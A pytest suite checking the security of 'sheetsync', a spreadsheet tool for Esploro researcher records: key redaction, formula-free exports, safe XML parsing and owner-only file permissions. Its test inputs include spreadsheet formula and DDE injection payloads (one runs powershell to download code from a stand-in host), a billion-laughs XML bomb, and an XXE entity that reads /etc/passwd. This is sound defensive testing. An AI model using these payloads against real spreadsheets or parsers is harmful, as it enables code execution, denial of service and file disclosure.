"""Security properties, end to end: the key never lands in a file or on a terminal, exported
workbooks never hold formulas, XML error bodies are not expanded, and files holding secrets or
record data are the owner's alone."""

from __future__ import annotations

import http.server
import os
import re
import shutil
import stat
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import requests
from python_calamine import CalamineWorkbook

from sheetsync.applying.journal import journal_path
from sheetsync.applying.results import write_results
from sheetsync.applying.run import ApplyOptions, apply_plan
from sheetsync.errors import EsploroApiError
from sheetsync.esploro.client import EsploroClient
from sheetsync.esploro.entities import RESEARCHERS, Selection
from sheetsync.esploro.settings import resolve_settings
from sheetsync.exporting import export_records
from sheetsync.planning.build import build_plan
from sheetsync.planning.file import read_plan, write_plan
from sheetsync.report.html import write_html_report
from sheetsync.sandbox import READ_WRITE_KEY
from sheetsync.template import load_template
from sheetsync.workbook.annotate import annotate_workbook
from tests.conftest import Api, start_sandbox
from tests.plans import edit

KEY = "s3cr3t-KEY-4b8d1e"
RO_KEY = "ro-KEY-77aa90c1"
WRONG_KEY = "wr0ng-KEY-5c3f9a27"
KEYS = {KEY: "rw", RO_KEY: "ro"}
SECRETS = tuple(
    dict.fromkeys(form for key in (KEY, RO_KEY, WRONG_KEY) for form in (key, quote(key, safe="")))
)
TITLE = "Display title"
ROOT = Path(__file__).resolve().parent.parent
FORMULA = re.compile(rb"<(?:\w+:)?f[\s>/]")


# -- helpers -------------------------------------------------------------------------------


def _leaks(data: bytes) -> list[str]:
    lowered = data.lower()
    return [s for s in SECRETS if s.encode().lower() in lowered]


def _files_leaking(root: Path) -> dict[str, list[str]]:
    """Every file under `root` (and every member of every zip) that holds a key's text."""
    found: dict[str, list[str]] = {}
    for path in sorted(p for p in root.rglob("*") if p.is_file()):
        data = path.read_bytes()
        if leaks := _leaks(data):
            found[str(path)] = leaks
        if zipfile.is_zipfile(path):
            with zipfile.ZipFile(path) as book:
                for member in book.namelist():
                    if leaks := _leaks(book.read(member)):
                        found[f"{path}!{member}"] = leaks
    return found


def _formula_members(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert sheets, f"{path} has no worksheets"
        return [n for n in sheets if FORMULA.search(book.read(n))]


class Cli:
    """Runs `python -m sheetsync` in a subprocess with a clean environment; keeps all output."""

    def __init__(self, tmp: Path, base_url: str) -> None:
        self.cwd = tmp
        self.base_url = base_url
        self.outputs: list[str] = []
        (tmp / "xdg-config").mkdir(exist_ok=True)
        (tmp / "xdg-data").mkdir(exist_ok=True)

    def env(self, key: str | None, **extra: str) -> dict[str, str]:
        env = {
            k: v
            for k, v in os.environ.items()
            if not k.startswith(("ESPLORO_", "SHEETSYNC_", "XDG_"))
        }
        env |= {
            "XDG_CONFIG_HOME": str(self.cwd / "xdg-config"),
            "XDG_DATA_HOME": str(self.cwd / "xdg-data"),
            "PYTHON_KEYRING_BACKEND": "keyring.backends.fail.Keyring",
            "PYTHONPATH": str(ROOT),
            "COLUMNS": "200",
            "ESPLORO_BASE_URL": self.base_url,
        }
        if key is not None:
            env["ESPLORO_API_KEY"] = key
        return env | extra

    def run(self, *args: str, key: str | None = KEY, code: str | None = None) -> Any:
        command = [sys.executable, "-c", code] if code else [sys.executable, "-m", "sheetsync"]
        done = subprocess.run(
            [*command, *args],
            cwd=self.cwd,
            env=self.env(key),
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        self.outputs += [done.stdout, done.stderr]
        return done


DEBUG_LOGGING = (
    "import logging, sys; logging.basicConfig(level=logging.DEBUG); "
    "sys.argv = ['sheetsync', *sys.argv[1:]]; from sheetsync.cli import main; main()"
)


# -- 1. the key never lands anywhere -------------------------------------------------------


def test_the_key_is_in_no_file_and_no_output_of_a_whole_run(tmp_path: Path) -> None:
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    with start_sandbox(keys=KEYS, researchers=20, assets=3) as server:
        cli = Cli(run_dir, server.base_url)
        fast = ("--rate", "500")
        book = run_dir / "people.xlsx"
        done = cli.run("export", "researchers", "-o", str(book), "--limit", "15", *fast)
        assert done.returncode == 0, done.stderr
        ids = Api(server.base_url, KEY).researcher_ids(15)
        edit(book, {(i, TITLE): f"Edited title {n}" for n, i in enumerate(ids[:6])})
        plan = run_dir / "people.plan.json"
        done = cli.run(
            "plan", str(book), "--html", "report.html", "--annotated", "annotated.xlsx", "-v", *fast
        )
        assert done.returncode == 2, done.stderr
        assert plan.exists()

        # a read-only key: the writes are refused (on a copy, so the real run starts clean)
        shutil.copy(plan, run_dir / "ro.plan.json")
        done = cli.run("apply", "ro.plan.json", "--yes", *fast, key=RO_KEY)
        assert done.returncode != 0

        # a bad day: failures and dropped connections during apply, then a resume
        server.faults.fail_rate = 0.4
        server.faults.drop_rate = 0.2
        done = cli.run("apply", str(plan), "--yes", "--workers", "2", *fast)
        assert done.returncode in (0, 1, 3), done.stderr
        assert server.stats()["by_status"].get("500"), server.stats()  # the faults did fire
        server.faults.fail_rate = 0.0
        server.faults.drop_rate = 0.0
        done = cli.run("apply", str(plan), "--yes", "--results", "results.xlsx", *fast)
        assert done.returncode in (0, 3), done.stderr
        done = cli.run("rollback", str(plan), "--yes", *fast)
        assert done.returncode in (0, 3), done.stderr

        assert cli.run("check").returncode == 0
        assert cli.run("check", "--json").returncode == 0
        assert cli.run("check", key=RO_KEY).returncode == 0
        # no CLI option turns logging on: run the CLI with DEBUG logging (urllib3 included)
        done = cli.run("check", code=DEBUG_LOGGING)
        assert done.returncode == 0 and "DEBUG" in done.stderr, done.stderr
        done = cli.run("plan", str(book), "-o", "again.plan.json", *fast, code=DEBUG_LOGGING)
        assert done.returncode in (0, 2, 3), done.stderr

        # a wrong key
        assert cli.run("check", key=WRONG_KEY).returncode == 1
        done = cli.run("export", "researchers", "-o", "wrong.xlsx", "--limit", "2", key=WRONG_KEY)
        assert done.returncode == 1 and "error" in done.stderr
        done = cli.run("apply", "again.plan.json", "--yes", key=WRONG_KEY)
        assert done.returncode != 0

    # the daily quota is spent: 429 DAILY_THRESHOLD from the first call
    with start_sandbox(keys=KEYS, researchers=20, assets=3, daily_limit=0) as spent:
        cli.base_url = spent.base_url
        out = ("export", "researchers", "-o", "late.xlsx", "--limit", "15", "--quota-floor", "0")
        done = cli.run(*out)
        assert done.returncode == 1 and "DAILY_THRESHOLD" in done.stderr, done.stderr
        done = cli.run("check")
        assert done.returncode == 1 and "DAILY_THRESHOLD" in done.stdout, done.stdout

    written = {p.name for p in run_dir.rglob("*") if p.is_file()}
    expected = {"people.xlsx", "people.plan.json", "report.html", "annotated.xlsx"}
    expected |= {"results.xlsx", journal_path(plan).name, "ro.plan.journal.jsonl"}
    assert expected <= written
    assert _files_leaking(run_dir) == {}
    leaking = [text for text in cli.outputs if _leaks(text.encode())]
    assert leaking == []


def test_the_sandbox_request_log_never_shows_a_key_sent_in_the_url(
    capfd: pytest.CaptureFixture[str],
) -> None:
    with start_sandbox(keys=KEYS, log_requests=True) as server:
        base = server.base_url
        json_only = {"Accept": "application/json"}

        def get(url: str, **headers: str) -> int:
            return requests.get(url, headers=json_only | headers, timeout=10).status_code

        assert get(f"{base}/esploro/v1/researchers?apikey={KEY}") == 200
        assert get(f"{base}/esploro/v1/researchers?limit=1&apikey={KEY}") == 200
        assert get(f"{base}/esploro/v1/researchers/none?apikey={KEY}&view=full") == 400
        assert get(f"{base}/esploro/v1/nothing?apikey={KEY}") >= 400
        assert get(f"{base}/esploro/v1/researchers?apikey={WRONG_KEY}") == 401
        assert get(f"{base}/esploro/v1/researchers?ApiKey={KEY}&limit=2") == 401
        assert get(f"{base}/esploro/v1/researchers?apikey={KEY}", Accept="text/csv") == 406
        assert get(f"{base}/esploro/v1/researchers", Authorization=f"apikey {KEY}") == 200
    out, err = capfd.readouterr()
    assert "GET /esploro/v1/researchers?" in err  # the log is on, and redacted
    assert _leaks((out + err).encode()) == []


# -- 2. no formulas in any workbook --------------------------------------------------------

EVIL = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    '=HYPERLINK("http://example.invalid/?x","Click")',
    "=1+1",
    "\t=1+1",
    " =2*3",
    "literal _x000D_ and _x005F_x000D_ escapes",
    "control \x01\x07\x0b\x0c\x1b\x1f characters",
    "lines\r\nand\rreturns\nhere",
    "=cmd|'/C powershell IEX(wget example.invalid)'!A0",
    "<f>1+1</f>",
    'DDE("cmd";"/C calc";"!A0")',
]


def _evil_patch(n: int) -> dict[str, Any]:
    pick = [EVIL[(n + k) % len(EVIL)] for k in range(6)]
    return {
        "first_name": pick[0],
        "middle_name": pick[1],
        "last_name": pick[2],
        "full_name": pick[3],
        "researcher": {
            "researcher_first_name": pick[2],
            "researcher_middle_name": pick[0],
            "researcher_last_name": pick[1],
            "display_title": pick[4],
            "researcher_keyword": [{"value": pick[5]}],
        },
    }


def _sheet_rows(path: Path) -> dict[str, dict[str, str]]:
    """The first sheet's rows by Primary ID, as {header: text}."""
    rows = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    start = next(n for n, row in enumerate(rows) if "Primary ID" in row)
    header = [str(h) for h in rows[start]]
    by_id = {}
    for row in rows[start + 1 :]:
        cells = dict(zip(header, row, strict=False))
        by_id[str(cells["Primary ID"])] = {h: str(v) for h, v in cells.items()}
    return by_id


def test_exported_annotated_and_results_workbooks_hold_no_formulas(tmp_path: Path) -> None:
    with start_sandbox(researchers=20, assets=3) as server:
        api = Api(server.base_url)
        ids = api.researcher_ids(14)
        for n, record_id in enumerate(ids):
            url = f"{server.base_url}/_sandbox/researchers/{record_id}"
            assert requests.patch(url, json=_evil_patch(n), timeout=5).ok
        live = {i: api.get(f"/esploro/v1/researchers/{i}").json() for i in ids}
        book = tmp_path / "evil.xlsx"
        with EsploroClient(server.base_url, READ_WRITE_KEY, rate=1000.0) as client:
            export_records(client, load_template("researchers"), book, Selection(ids=tuple(ids)))
            assert _formula_members(book) == []
            rows = _sheet_rows(book)
            for record_id, record in live.items():
                row = rows[record_id]
                assert row["User record first name"] == record["first_name"]
                assert row["User record middle name"] == record["middle_name"]
                assert row["User record last name"] == record["last_name"]
                published = record["researcher"]
                assert row["First name"] == published["researcher_first_name"]
                assert row["Middle name"] == published["researcher_middle_name"]
                assert row["Last name"] == published["researcher_last_name"]
                assert row["Full name"] == record["full_name"]
                assert row[TITLE] == record["researcher"]["display_title"]
                assert row["Keywords"] == record["researcher"]["researcher_keyword"][0]["value"]
            for n, text in enumerate(EVIL):  # every evil text came back exactly, somewhere
                assert any(text in row.values() for row in rows.values()), (n, text)

            # edit two records; one goes stale so the results workbook lists it again
            edit(book, {(ids[0], "Position"): "PROF", (ids[1], "Position"): "PROF"})
            plan = build_plan(client, book)
            plan_path = tmp_path / "evil.plan.json"
            write_plan(plan, plan_path)
            annotated = tmp_path / "annotated.xlsx"
            annotate_workbook(book, annotated, plan)
            stale = {"researcher": {"display_title": "=cmd|' /C calc'!A0 (stale)"}}
            url = f"{server.base_url}/_sandbox/researchers/{ids[1]}"
            assert requests.patch(url, json=stale, timeout=5).ok
            result = apply_plan(
                client,
                read_plan(plan_path),
                journal=journal_path(plan_path),
                options=ApplyOptions(),
            )
            results = tmp_path / "results.xlsx"
            again = write_results(client, read_plan(plan_path), result, results)
        assert again >= 1
        assert _formula_members(annotated) == []
        assert _formula_members(results) == []
        assert _sheet_rows(annotated)[ids[2]][TITLE] == live[ids[2]]["researcher"]["display_title"]


# -- 3. XML error bodies are not expanded --------------------------------------------------

LAUGHS = "".join(f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">' for n in range(1, 10))
BILLION_LAUGHS = f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE web_service_result [<!ENTITY lol0 "lol">{LAUGHS}]>
<web_service_result xmlns="http://com/exlibris/urm/general/xmlbeans">
<errorsExist>true</errorsExist><errorList><error><errorCode>401861</errorCode>
<errorMessage>&lol9;</errorMessage><trackingId>E01-1</trackingId></error></errorList>
</web_service_result>"""
EXTERNAL = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE web_service_result [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<web_service_result xmlns="http://com/exlibris/urm/general/xmlbeans">
<errorsExist>true</errorsExist><errorList><error><errorCode>401861</errorCode>
<errorMessage>before &xxe; after</errorMessage><trackingId>E01-2</trackingId></error>
</errorList></web_service_result>"""


@pytest.fixture
def xml_server() -> Iterator[tuple[str, list[str]]]:
    """A loopback server answering every request 400 with the XML body in `bodies[0]`."""
    bodies: list[str] = [""]

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            data = bodies[0].encode("utf-8")
            self.send_response(400)
            self.send_header("Content-Type", "application/xml;charset=UTF-8")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", bodies
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL], ids=["billion-laughs", "xxe"])
def test_xml_error_bodies_are_parsed_without_expanding_entities(
    xml_server: tuple[str, list[str]], body: str
) -> None:
    base_url, bodies = xml_server
    bodies[0] = body
    passwd = Path("/etc/passwd").read_text(encoding="utf-8", errors="replace")
    first_line = passwd.splitlines()[0] if passwd else "root:x:0:0"
    started = time.monotonic()
    with (
        EsploroClient(base_url, KEY, max_retries=0) as client,
        pytest.raises(EsploroApiError) as raised,
    ):
        RESEARCHERS.get(client, "1")
    assert time.monotonic() - started < 5
    message = str(raised.value)
    assert raised.value.status == 400
    assert len(message) < 2000
    assert "lol" * 10 not in message
    assert first_line not in message and "root:" not in message
    assert "before  after" not in message  # the entity was not resolved to nothing either
    assert _leaks(message.encode()) == []


# -- 4. the config file's permissions ------------------------------------------------------


def test_a_config_file_with_a_key_is_owner_only_and_a_readable_one_is_warned_about(
    tmp_path: Path,
) -> None:
    config = tmp_path / "xdg-config" / "sheetsync" / "config.toml"
    with start_sandbox(keys=KEYS, researchers=5, assets=2) as server:
        config.parent.mkdir(parents=True)
        config.write_text(f'[profiles.prod]\nbase_url = "{server.base_url}"\napi_key = "{KEY}"\n')
        config.chmod(0o600)
        settings = resolve_settings(config_path=config, profile="prod", env={})
        assert settings.api_key == KEY and settings.warnings == ()

        for mode in (0o640, 0o604, 0o660):
            config.chmod(mode)
            settings = resolve_settings(config_path=config, profile="prod", env={})
            (warning,) = settings.warnings
            assert "chmod 600" in warning and "other users can read" in warning
            assert KEY not in warning

        cli = Cli(tmp_path, server.base_url)
        env = cli.env(None)
        del env["ESPLORO_BASE_URL"]

        def check_prod() -> subprocess.CompletedProcess[str]:
            command = [sys.executable, "-m", "sheetsync", "check", "--profile", "prod"]
            return subprocess.run(
                command,
                cwd=tmp_path,
                env=env,
                capture_output=True,
                text=True,
                timeout=60,
                check=False,
            )

        done = check_prod()
        assert done.returncode == 0, done.stderr
        assert "warning:" in done.stderr and "chmod 600" in done.stderr
        assert _leaks((done.stdout + done.stderr).encode()) == []

        config.chmod(0o600)
        done = check_prod()
        assert done.returncode == 0, done.stderr
        assert "chmod" not in done.stderr


# -- 5. who may read the files a run writes ------------------------------------------------


@pytest.mark.parametrize("umask", [0o000, 0o022])
def test_plan_journal_and_results_are_owner_only_and_reports_follow_the_umask(
    tmp_path: Path, umask: int
) -> None:
    def mode(path: Path) -> int:
        return stat.S_IMODE(path.stat().st_mode)

    with start_sandbox(researchers=10, assets=2) as server:
        ids = Api(server.base_url).researcher_ids(4)
        old = os.umask(umask)
        try:
            with EsploroClient(server.base_url, READ_WRITE_KEY, rate=1000.0) as client:
                book = tmp_path / "people.xlsx"
                export_records(client, load_template("researchers"), book, Selection())
                edit(book, {(i, TITLE): f"T{n}" for n, i in enumerate(ids)})
                plan = build_plan(client, book)
                plan_path = tmp_path / "people.plan.json"
                write_plan(plan, plan_path)
                html = tmp_path / "report.html"
                write_html_report(plan, html, rate=10.0)
                annotated = tmp_path / "annotated.xlsx"
                annotate_workbook(book, annotated, plan)
                result = apply_plan(
                    client,
                    read_plan(plan_path),
                    journal=journal_path(plan_path),
                    options=ApplyOptions(),
                )
                results = tmp_path / "results.xlsx"
                write_results(client, read_plan(plan_path), result, results)
        finally:
            os.umask(old)
    assert mode(plan_path) == 0o600
    assert mode(journal_path(plan_path)) == 0o600
    assert mode(results) == 0o600
    assert mode(book) == 0o600  # the export holds record data too (mkstemp)
    assert mode(html) == 0o666 & ~umask  # for colleagues: the umask decides
    assert mode(annotated) == 0o666 & ~umask
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith((".part", ".tmp"))] == []
